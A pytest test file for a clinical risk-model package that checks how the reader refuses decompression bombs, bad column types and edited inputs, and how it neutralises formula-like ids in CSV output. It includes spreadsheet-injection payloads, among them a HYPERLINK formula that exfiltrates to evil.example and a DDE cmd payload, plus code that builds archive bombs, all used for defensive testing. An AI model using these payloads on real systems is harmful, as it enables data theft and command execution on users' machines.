"""Issue #23, inputs that must not be trusted: an archive that inflates without bound, a column of a type no
reader expects, a set folder's sub-folders, an input edited behind a resumable job's back, and stay ids that
a spreadsheet would run as formulas. Real files and archives throughout."""

from __future__ import annotations

import gzip
import io
import os
import re
import subprocess
import sys
import tarfile
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import polars as pl
import pytest
from helpers import crash_on_call, random_long, stay_text, tiny_model, write_physionet_set

from clinical_lstm.data.catalogue import Catalogue
from clinical_lstm.data.chunks import index_long, index_physionet, plan_chunks, read_chunks
from clinical_lstm.data.physionet import read_physionet
from clinical_lstm.data.sources import DataError, read_labels, read_long
from clinical_lstm.files import write_frame
from clinical_lstm.serve.batch import score_batch
from clinical_lstm.serve.bundle import RiskModel

CLI = [sys.executable, "-m", "clinical_lstm.cli"]
MiB = 1 << 20
STAYS = {140001: [("00:07", "GCS", "15"), ("01:30", "HR", "88"), ("36:30", "pH", "7.35")],
         140002: [("00:15", "HR", "102"), ("02:00", "HR", "99")],
         140003: [("00:20", "HR", "91"), ("03:00", "MAP", "71")]}


@pytest.fixture(scope="module")
def model() -> RiskModel:
    return tiny_model()


@pytest.fixture(scope="module")
def bundle(tmp_path_factory, model) -> Path:
    return model.save(tmp_path_factory.mktemp("model") / "model")


def quiet(_msg):
    pass


# -- 1. bounded decompression ---------------------------------------------------------------------------------
class _Zeros(io.RawIOBase):
    """``n`` bytes: a stay header, then ``0`` digits; read in pieces, so that a test never holds the member."""

    def __init__(self, n: int):
        self.head, self.n, self.at = b"Time,Parameter,Value\n", n, 0

    def readable(self):
        return True

    def readinto(self, buf):
        k = min(len(buf), self.n - self.at)
        piece = (self.head[self.at:] + b"0" * k)[:k] if self.at < len(self.head) else b"0" * k
        buf[:k] = piece
        self.at += k
        return k


def bomb(path: Path, members: dict[str, int]) -> Path:
    """A .tar.gz of the good stays plus ``members`` (name -> size) of highly compressible stay-like bytes."""
    with tarfile.open(path, "w:gz") as tf:
        for rid, rows in STAYS.items():
            data = stay_text(rid, rows).encode()
            info = tarfile.TarInfo(f"set-x/{rid}.txt")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, size in members.items():
            info = tarfile.TarInfo(name)
            info.size = size
            tf.addfile(info, _Zeros(size))
    return path


def test_a_stay_member_over_the_member_limit_is_refused_in_one_line_naming_it(tmp_path, monkeypatch):
    path = bomb(tmp_path / "set-x.tar.gz", {"set-x/150000.txt": 24 * MiB})
    assert path.stat().st_size < 100_000  # a small archive that inflates 300-fold
    monkeypatch.setenv("CLINICAL_LSTM_MAX_MEMBER_BYTES", str(1 * MiB))
    message = (f"{path}: member set-x/150000.txt inflates to 25,165,824 bytes, over the limit of 1,048,576 bytes "
               f"per stay file (CLINICAL_LSTM_MAX_MEMBER_BYTES)")
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match=re.escape(message)) as exc:
            read_physionet(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "\n" not in str(exc.value)
    assert peak < 8 * MiB, f"the member was read whole ({peak:,} bytes held)"
    with pytest.raises(DataError, match=re.escape(message)):
        index_physionet(path)  # the batch scorer's index pass refuses it before any chunk


def test_an_archive_over_the_archive_limit_is_refused_naming_the_member_that_crossed_it(tmp_path, monkeypatch):
    members = {f"set-x/{150000 + k}.txt": 300_000 for k in range(8)}  # each under the member limit
    path = bomb(tmp_path / "set-x.tar.gz", members)
    monkeypatch.setenv("CLINICAL_LSTM_MAX_MEMBER_BYTES", str(1 * MiB))
    monkeypatch.setenv("CLINICAL_LSTM_MAX_ARCHIVE_BYTES", str(1 * MiB))
    message = (f"{path}: the archive inflates past the limit of 1,048,576 bytes per archive "
               f"(CLINICAL_LSTM_MAX_ARCHIVE_BYTES) at member set-x/150003.txt")
    for read in (read_physionet, index_physionet):
        with pytest.raises(DataError, match=re.escape(message)):
            read(path)
    monkeypatch.setenv("CLINICAL_LSTM_MAX_ARCHIVE_BYTES", str(4 * MiB))  # raised: the archive reads
    assert read_physionet(path).stays.len() == 3 + 8


def test_headers_that_tarfile_reads_whole_and_padding_past_the_end_are_bounded_too(tmp_path, monkeypatch):
    """A pax header holds its records in memory, a gzip stream can go on with zeros after the tar's end: both
    inflate from a few kilobytes, and both are refused at the limits."""
    monkeypatch.setenv("CLINICAL_LSTM_MAX_MEMBER_BYTES", str(64 << 10))
    monkeypatch.setenv("CLINICAL_LSTM_MAX_ARCHIVE_BYTES", str(2 * MiB))
    pax = tmp_path / "pax" / "set-x.tar.gz"
    pax.parent.mkdir()
    with tarfile.open(pax, "w:gz", format=tarfile.PAX_FORMAT) as tf:
        info = tarfile.TarInfo("set-x/140001.txt")
        data = stay_text(140001, STAYS[140001]).encode()
        info.size, info.pax_headers = len(data), {"comment": "0" * (100 << 10)}
        tf.addfile(info, io.BytesIO(data))
    assert pax.stat().st_size < 5_000
    with pytest.raises(DataError, match=r"set-x\.tar\.gz: member .* \(a long-name or pax header\) inflates to "
                                        r"102,\d{3} bytes, over the limit of 65,536 bytes per stay file"):
        read_physionet(pax)
    padded = tmp_path / "padded" / "set-x.tar.gz"
    padded.parent.mkdir()
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as tf:
        data = stay_text(140001, STAYS[140001]).encode()
        info = tarfile.TarInfo("set-x/140001.txt")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    padded.write_bytes(gzip.compress(tar.getvalue() + bytes(8 * MiB), mtime=0))
    with pytest.raises(DataError, match=re.escape(f"{padded}: the archive inflates past the limit of 2,097,152 "
                                                  f"bytes per archive (CLINICAL_LSTM_MAX_ARCHIVE_BYTES) at byte "
                                                  f"2,097,152 of the tar")):
        index_physionet(padded)


def test_a_sparse_member_is_refused(tmp_path):
    path = tmp_path / "set-x.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo("set-x/140001.txt")
        info.type = tarfile.GNUTYPE_SPARSE
        tf.addfile(info)
    with pytest.raises(DataError, match=re.escape(f"{path}: member set-x/140001.txt is a sparse file")):
        read_physionet(path)


def test_a_folder_stay_file_over_the_member_limit_is_refused_too(tmp_path, monkeypatch):
    folder = write_physionet_set(tmp_path, STAYS)
    (folder / "150000.txt").write_bytes(b"Time,Parameter,Value\n" + b"0" * (2 * MiB))
    monkeypatch.setenv("CLINICAL_LSTM_MAX_MEMBER_BYTES", str(1 * MiB))
    with pytest.raises(DataError, match=re.escape(f"{folder}: member 150000.txt is 2,097,173 bytes, over the "
                                                  f"limit of 1,048,576 bytes per stay file")):
        read_physionet(folder)


def test_a_limit_that_is_not_a_number_of_bytes_is_refused(tmp_path, monkeypatch):
    path = bomb(tmp_path / "set-x.tar.gz", {})
    monkeypatch.setenv("CLINICAL_LSTM_MAX_MEMBER_BYTES", "64MB")
    with pytest.raises(DataError, match=re.escape("CLINICAL_LSTM_MAX_MEMBER_BYTES must be a whole number of bytes "
                                                  "of at least 1, got '64MB'")):
        read_physionet(path)


def test_score_refuses_a_decompression_bomb_with_exit_code_2_and_one_line(bundle, tmp_path):
    path = bomb(tmp_path / "set-x.tar.gz", {"set-x/150000.txt": 24 * MiB})
    out = tmp_path / "out" / "scores.parquet"
    env = {**os.environ, "CLINICAL_LSTM_MAX_MEMBER_BYTES": str(4 * MiB)}
    res = subprocess.run([*CLI, "score", "--model", str(bundle), "--data", str(path), "--out", str(out),
                          "--no-progress"], capture_output=True, text=True, timeout=300, env=env)
    assert res.returncode == 2, res.stderr
    assert res.stderr.strip().count("\n") == 0 and "Traceback" not in res.stderr
    assert "member set-x/150000.txt inflates to 25,165,824 bytes, over the limit of 4,194,304" in res.stderr
    assert not out.exists()


# -- 2. column types --------------------------------------------------------------------------------------------
BIG = 2**63  # above the largest Int64


def long_frame(**columns) -> pl.DataFrame:
    df = pl.DataFrame({"stay_id": [1, 1, 2], "time": [0.5, 1.0, 2.0], "variable": ["HR", "HR", "MAP"],
                       "value": [80.0, 82.0, 70.0]})
    return df.with_columns(**columns)


BAD_TYPES = {  # column: (series of that type, how the type is written in the message)
    "value_list": ("value", pl.Series([[80.0], [82.0], [70.0]]), "List(Float64)"),
    "value_struct": ("value", pl.Series([{"a": 80.0}, {"a": 82.0}, {"a": 70.0}]), "Struct({'a': Float64})"),
    "value_timestamp": ("value", pl.Series([1, 2, 3]).cast(pl.Datetime("us")), "Datetime(time_unit='us', "
                                                                                "time_zone=None)"),
    "value_boolean": ("value", pl.Series([True, False, True]), "Boolean"),
    "stay_id_list": ("stay_id", pl.Series([[1], [1], [2]]), "List(Int64)"),
    "stay_id_binary": ("stay_id", pl.Series([b"a", b"a", b"b"]), "Binary"),
    "stay_id_date": ("stay_id", pl.Series([1, 1, 2]).cast(pl.Date), "Date"),
    "variable_list": ("variable", pl.Series([["HR"], ["HR"], ["MAP"]]), "List(String)"),
    "time_list": ("time", pl.Series([[0.5], [1.0], [2.0]]), "List(Float64)"),
}


def type_message(where: str, column: str, dtype: str) -> str:
    return f"{where}: column '{column}' has type {dtype}"


@pytest.mark.parametrize("case", list(BAD_TYPES))
def test_a_parquet_column_of_a_type_no_reader_expects_is_one_line_naming_column_and_type(tmp_path, case):
    column, series, dtype = BAD_TYPES[case]
    path = tmp_path / "bad.parquet"
    long_frame(**{column: series}).write_parquet(path)
    for read in (read_long, lambda p: index_long(p, Catalogue.default())):
        with pytest.raises(DataError, match=re.escape(type_message(f"data file {path}", column, dtype))) as exc:
            read(path)
        assert "\n" not in str(exc.value)


@pytest.mark.parametrize("case", list(BAD_TYPES))
def test_predict_on_a_frame_with_a_column_of_a_bad_type_names_column_and_type(model, case):
    column, series, dtype = BAD_TYPES[case]
    with pytest.raises(DataError, match=re.escape(type_message("the long table", column, dtype))):
        model.predict(long_frame(**{column: series}))


def test_predict_on_a_pandas_frame_with_list_cells_names_the_column(model):
    df = long_frame().to_pandas()
    df["value"] = [[80.0], [82.0], [70.0]]
    with pytest.raises(DataError, match=re.escape("the long table: column 'value' has type List(Float64)")):
        model.predict(df)


@pytest.mark.parametrize("column", ["stay_id", "value"])
def test_predict_on_a_pandas_object_column_holding_lists_names_the_column(model, column):
    """Object columns are read cell by cell as text (UUIDs, mixed numbers and text); a list is not text."""
    df = long_frame().to_pandas()
    df[column] = pd.Series([df[column][0], [1.0, 2.0], "x"], dtype=object)
    with pytest.raises(DataError, match=re.escape(f"the long table: column '{column}' has type object holding a "
                                                  f"list (row 2)")):
        model.predict(df)


def test_score_refuses_a_list_column_with_exit_code_2_and_one_line(bundle, tmp_path):
    path = tmp_path / "bad.parquet"
    long_frame(value=BAD_TYPES["value_list"][1]).write_parquet(path)
    out = tmp_path / "scores.parquet"
    res = subprocess.run([*CLI, "score", "--model", str(bundle), "--data", str(path), "--out", str(out),
                          "--no-progress"], capture_output=True, text=True, timeout=300)
    assert res.returncode == 2, res.stderr
    assert res.stderr.strip().count("\n") == 0 and "column 'value' has type List(Float64)" in res.stderr


def test_labels_of_a_bad_type_name_the_column_and_type(tmp_path):
    path = tmp_path / "labels.parquet"
    pl.DataFrame({"stay_id": [1, 2], "label": [[0], [1]]}).write_parquet(path)
    with pytest.raises(DataError, match=re.escape(type_message(f"labels file {path}", "label", "List(Int64)"))):
        read_labels(path)
    pl.DataFrame({"stay_id": pl.Series([BIG + 1, BIG + 2], dtype=pl.UInt64), "label": [0, 1]}).write_parquet(path)
    assert read_labels(path)["stay_id"].to_list() == [str(BIG + 1), str(BIG + 2)]


def test_uint64_stay_ids_above_int64_are_text_ids_on_every_path_as_their_csv_spelling(model, tmp_path):
    """An unsigned id too large for Int64 is read as its digits, exactly as the same id written in a CSV is."""
    df = random_long(3, seed=4).with_columns(pl.col("stay_id").cast(pl.UInt64) + (BIG - 1))
    parquet, csv = tmp_path / "big.parquet", tmp_path / "big.csv"
    df.write_parquet(parquet)
    df.with_columns(pl.col("stay_id").cast(pl.String)).write_csv(csv)
    ids = [str(BIG), str(BIG + 1), str(BIG + 2)]
    assert read_long(parquet).stays.to_list() == read_long(csv).stays.to_list() == ids
    from_csv = model.predict(csv)
    for given in (parquet, pl.read_parquet(parquet)):
        got = model.predict(given)
        assert got["stay_id"].to_list() == ids
        assert got.drop("stay_id").equals(from_csv.drop("stay_id"))
    assert model.predict(pl.read_parquet(parquet).to_pandas())["stay_id"].tolist() == ids
    summary = score_batch(model, parquet, tmp_path / "s.parquet", chunk_stays=2, log=quiet)
    assert summary["scored"] == 3
    scored = pl.read_parquet(tmp_path / "s.parquet")
    assert scored["stay_id"].to_list() == ids
    np.testing.assert_allclose(scored["risk"].to_numpy(), from_csv["risk"].to_numpy(), rtol=0, atol=1e-6)


def test_a_categorical_value_column_reads_as_its_text(model, tmp_path):
    df = random_long(3, seed=6)
    as_text = df.with_columns(pl.col("value").cast(pl.String))
    categorical = as_text.with_columns(pl.col("value").cast(pl.Categorical))
    path = tmp_path / "cat.parquet"
    categorical.write_parquet(path)
    expected = model.predict(as_text)
    assert model.predict(categorical).equals(expected)
    assert model.predict(path).equals(expected)
    score_batch(model, path, tmp_path / "s.parquet", chunk_stays=2, log=quiet)
    np.testing.assert_allclose(pl.read_parquet(tmp_path / "s.parquet")["risk"].to_numpy(),
                               expected["risk"].to_numpy(), rtol=0, atol=1e-6)


# -- 5. a set folder's sub-folders ---------------------------------------------------------------------------
def test_a_tree_with_sub_folders_gives_the_same_stays_as_folder_and_as_tar_gz(model, tmp_path):
    folder = write_physionet_set(tmp_path, STAYS)
    (folder / "old").mkdir()
    (folder / "old" / "999999.txt").write_text(stay_text(999999, [("00:30", "HR", "77")]))
    (folder / "old" / "deeper").mkdir()
    (folder / "old" / "deeper" / "999998.txt").write_text(stay_text(999998, [("01:30", "HR", "75")]))
    (folder / "old" / "notes.md").write_text("not a stay\n")
    archive = folder.parent / "set-x.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        tf.add(folder, arcname=folder.name)
    expected = sorted([*STAYS, 999999, 999998])
    a, b = read_physionet(folder), read_physionet(archive)
    assert a.stays.to_list() == b.stays.to_list() == expected
    assert a.long.equals(b.long)
    assert a.ignored_members == b.ignored_members == 2  # README.txt and old/notes.md in both
    ia, ib = index_physionet(folder), index_physionet(archive)
    assert ia.stay_ids.tolist() == ib.stay_ids.tolist() and sorted(ia.stay_ids.tolist()) == expected
    chunks = plan_chunks([ia], 2)
    chunked = [raw for _, raw in read_chunks(ia, chunks, {c.index for c in chunks}, None)]
    assert sorted(s for r in chunked for s in r.stays.to_list()) == expected
    la, lb = [], []
    sa = score_batch(model, folder, tmp_path / "a.parquet", chunk_stays=2, log=la.append)
    sb = score_batch(model, archive, tmp_path / "b.parquet", chunk_stays=2, log=lb.append)
    for name, lines in (("set-x", la), ("set-x.tar.gz", lb)):  # what was not read is said, not only counted
        assert f"note: {name}: 2 entries are not stay files (<RecordID>.txt, at any depth) and were not read" in lines
    assert sa["stays_read"] == sb["stays_read"] == len(expected)
    assert pl.read_parquet(tmp_path / "a.parquet").drop("scored_at", "model").equals(
        pl.read_parquet(tmp_path / "b.parquet").drop("scored_at", "model"))


def test_a_stay_file_in_a_sub_folder_that_repeats_a_record_id_is_refused_in_a_folder_as_in_an_archive(tmp_path):
    folder = write_physionet_set(tmp_path, STAYS)
    (folder / "old").mkdir()
    (folder / "old" / "140001.txt").write_text(stay_text(140001, [("00:30", "HR", "77")]))
    with pytest.raises(DataError, match=re.escape(f"{folder}: stay 140001 appears more than once")):
        read_physionet(folder)


# -- 6. a resumed job checks its input's content ------------------------------------------------------------
def _same_length_edit(path: Path) -> None:
    """Change the first stay's first HR value's leading digit (the same length), then restore the mtime."""
    st = path.stat()
    data = path.read_bytes()
    at = re.search(rb"HR,([1-9])", data)
    assert at, path
    digit = at.start(1)
    edited = data[:digit] + (b"2" if data[digit:digit + 1] != b"2" else b"3") + data[digit + 1:]
    path.write_bytes(edited)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns


def _physionet_stays(n: int) -> dict:
    return {1000 + i: [("00:30", "HR", f"{80 + i}"), (f"{i % 40 + 1:02d}:10", "MAP", f"{70 + i % 9}"),
                       ("05:00", "Temp", f"{36.5 + i % 3}")] for i in range(n)}


def _csv_input(root: Path) -> tuple[Path, Path]:
    root.mkdir(parents=True)
    path = root / "long.csv"
    df = random_long(12, seed=8).with_columns(pl.col("time", "value").cast(pl.String))
    df.write_csv(path)
    return path, path


def _folder_input(root: Path) -> tuple[Path, Path]:
    folder = write_physionet_set(root, _physionet_stays(12))
    member = folder / "1000.txt"
    return folder, member


def _tar_input(root: Path) -> tuple[Path, Path]:
    folder = write_physionet_set(root, _physionet_stays(12))
    path = root / "set-x.tar"
    with tarfile.open(path, "w") as tf:  # uncompressed: an in-place edit keeps the length
        tf.add(folder, arcname=folder.name)
    return path, path


@pytest.mark.parametrize("make", [_csv_input, _folder_input, _tar_input], ids=["csv", "folder", "tar"])
def test_an_input_edited_in_place_with_its_mtime_restored_is_not_resumed_from_old_chunks(
        model, tmp_path, monkeypatch, make):
    data, edited_file = make(tmp_path / "in")
    out = tmp_path / "out" / "scores.parquet"
    before = model.predict(data).sort("stay_id")
    calls = crash_on_call(monkeypatch, 2, KeyboardInterrupt())  # chunk 0 is saved, chunk 1 is interrupted
    with pytest.raises(KeyboardInterrupt):
        score_batch(model, data, out, chunk_stays=4, workers=1, log=quiet)
    assert (tmp_path / "out" / ".scores.parquet.partial" / "manifest.json").is_file()
    _same_length_edit(edited_file)
    fresh = model.predict(data).sort("stay_id")
    assert abs(fresh["risk"][0] - before["risk"][0]) > 1e-6, "the edit must change the first stay's risk"
    calls["n"] = 100  # no more interruptions
    lines: list[str] = []
    score_batch(model, data, out, chunk_stays=4, workers=1, log=lines.append)
    assert not any("resuming" in line for line in lines)
    assert any("changed since the unfinished run; starting afresh" in line for line in lines)
    got = pl.read_parquet(out).sort("stay_id")
    np.testing.assert_allclose(got["risk"].to_numpy(), fresh["risk"].to_numpy(), rtol=0, atol=1e-6)


def test_an_unchanged_input_still_resumes(model, tmp_path, monkeypatch):
    data, _ = _csv_input(tmp_path / "in")
    out = tmp_path / "out" / "scores.parquet"
    calls = crash_on_call(monkeypatch, 2, KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        score_batch(model, data, out, chunk_stays=4, workers=1, log=quiet)
    os.utime(data)  # touched, not changed: the content decides
    calls["n"], lines = 100, []
    score_batch(model, data, out, chunk_stays=4, workers=1, log=lines.append)
    assert any("resuming: 1 chunk(s)" in line for line in lines)
    assert calls["n"] == 100 + 2


# -- 12. spreadsheet formula injection ---------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A1", "@SUM(1+1)", "-2+3"]
PLAIN = ["P-17", "-5", "a=b"]  # not formulas: kept as they are ("-5" is a number a spreadsheet reads as -5)


def test_score_to_csv_neutralises_formula_ids_and_parquet_keeps_them_exact(model, tmp_path):
    ids = FORMULAS + PLAIN
    df = random_long(len(ids), seed=9)
    mapping = dict(zip(sorted(df["stay_id"].unique().to_list()), ids, strict=True))
    df = df.with_columns(pl.col("stay_id").replace_strict(mapping, return_dtype=pl.String))
    unknown = pl.DataFrame({"stay_id": ["=1+2"], "time": [1.0], "variable": ["FooScore"], "value": [1.0]})
    df = pl.concat([df, unknown])  # a stay that is rejected: its id is in the rejects file
    src = tmp_path / "in.parquet"
    df.write_parquet(src)
    score_batch(model, src, tmp_path / "s.parquet", chunk_stays=4, explain=2, log=quiet)
    score_batch(model, src, tmp_path / "s.csv", chunk_stays=4, explain=2, log=quiet)
    exact = pl.read_parquet(tmp_path / "s.parquet")
    assert sorted(exact["stay_id"].to_list()) == sorted([*ids, "=1+2"])
    assert pl.read_parquet(tmp_path / "s.parquet.rejects.parquet")["stay_id"].to_list() == ["=1+2"]
    text = pl.read_csv(tmp_path / "s.csv", infer_schema=False)
    expected = {**{i: "'" + i for i in FORMULAS}, **{i: i for i in PLAIN}, "=1+2": "'=1+2"}
    assert dict(zip(exact["stay_id"].to_list(), text["stay_id"].to_list(), strict=True)) == expected
    assert pl.read_csv(tmp_path / "s.csv.rejects.csv", infer_schema=False)["stay_id"].to_list() == ["'=1+2"]
    # numeric columns are numbers: a negative contribution is written as it is
    contributions = pl.read_csv(tmp_path / "s.csv")["top1_contribution"].drop_nulls()
    assert (contributions < 0).any()
    np.testing.assert_allclose(contributions.to_numpy(), exact["top1_contribution"].drop_nulls().to_numpy())
    first_cells = [line.split(",")[0] for line in (tmp_path / "s.csv").read_text().splitlines()[1:]]
    assert not any(c.lstrip('"')[:1] in ("=", "+", "@", "\t", "\r") for c in first_cells)


def test_write_frame_neutralises_text_cells_only_in_csv(tmp_path):
    df = pl.DataFrame({"name": ["=1+1", "+A1", "@x", "-x", "\t=1", "\r=1", "ok", None, "-1.5"],
                       "number": [-1.5, 2.0, -3.0, 0.0, 1.0, 4.0, 1.0, None, -2.0]})
    write_frame(df, tmp_path / "f.csv")
    write_frame(df, tmp_path / "f.parquet")
    back = pl.read_csv(tmp_path / "f.csv", schema={"name": pl.String, "number": pl.Float64})
    assert back["name"].to_list() == ["'=1+1", "'+A1", "'@x", "'-x", "'\t=1", "'\r=1", "ok", None, "-1.5"]
    assert back["number"].equals(df["number"])
    assert pl.read_parquet(tmp_path / "f.parquet").equals(df)
